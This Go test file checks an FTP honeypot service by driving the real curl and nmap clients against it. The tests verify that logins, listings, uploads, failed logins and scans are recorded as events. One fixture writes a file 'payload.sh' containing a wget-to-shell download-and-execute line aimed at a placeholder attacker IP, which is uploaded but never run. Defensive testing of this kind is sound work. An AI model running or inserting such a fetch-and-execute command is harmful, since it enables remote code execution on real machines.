package ftp

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// tool finds a client program; without it the test is skipped, unless HONEYSENS_E2E=1.
func tool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("HONEYSENS_E2E") == "1" {
			t.Fatalf("%s is required with HONEYSENS_E2E=1: %v", name, err)
		}
		t.Skipf("%s not installed (apt-get install %s); set HONEYSENS_E2E=1 to make this a failure", name, name)
	}
	return p
}

func run(t *testing.T, timeout time.Duration, name string, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	out, err := exec.CommandContext(ctx, name, args...).CombinedOutput()
	var ee *exec.ExitError
	switch {
	case err == nil:
		return string(out), 0
	case errors.As(err, &ee) && ctx.Err() == nil:
		return string(out), ee.ExitCode()
	}
	t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	return "", -1
}

func TestCurl(t *testing.T) {
	curl := tool(t, "curl")
	svc, rec := start(t, Config{Accept: []string{"admin:admin"}})
	base := "ftp://" + svc.Addr().String()

	out, code := run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:admin", base+"/pub/")
	if code != 0 || !strings.Contains(out, "README") || !strings.Contains(out, "firmware") {
		t.Fatalf("curl list: exit %d\n%s", code, out)
	}
	e := rec.wait(t, 1)
	if !strings.HasPrefix(e.Summary, "FTP: login as admin, ") || !strings.Contains(details(e), "LIST") {
		t.Errorf("list event %q\n%s", e.Summary, details(e))
	}

	file := filepath.Join(t.TempDir(), "payload.sh")
	os.WriteFile(file, []byte("#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n"), 0o600)
	out, code = run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:admin", "-T", file, base+"/payload.sh")
	if code != 0 {
		t.Fatalf("curl upload: exit %d\n%s", code, out)
	}
	e = rec.wait(t, 2)
	if !strings.Contains(e.Summary, "uploaded payload.sh (45 bytes)") || !strings.Contains(details(e), "STOR /payload.sh: 45 bytes received") {
		t.Errorf("upload event %q\n%s", e.Summary, details(e))
	}

	out, code = run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:wrong", base+"/")
	if code != 67 { // CURLE_LOGIN_DENIED
		t.Errorf("curl wrong password: exit %d\n%s", code, out)
	}
	if e = rec.wait(t, 3); e.Summary != "FTP: 1 failed login as admin" || !strings.Contains(details(e), "login admin / wrong: rejected") {
		t.Errorf("failed login event %q\n%s", e.Summary, details(e))
	}
}

func TestNmap(t *testing.T) {
	nmap := tool(t, "nmap")
	svc, rec := start(t, DefaultConfig())
	port := strings.TrimPrefix(svc.Addr().String(), "127.0.0.1:")
	out, code := run(t, 3*time.Minute, nmap, "-sV", "-Pn", "-p", port, "127.0.0.1")
	if code != 0 {
		t.Fatalf("nmap exit %d\n%s", code, out)
	}
	line := regexp.MustCompile(`(?m)^` + port + `/tcp\s+.*$`).FindString(out)
	t.Logf("nmap: %s", line)
	if !strings.Contains(line, " open ") {
		t.Fatalf("nmap did not see the port open:\n%s", out)
	}
	if !strings.Contains(line, "vsftpd") {
		t.Logf("nmap did not name vsftpd (not a failure):\n%s", out)
	}
	rec.wait(t, 1) // the probe connections are reported too
}
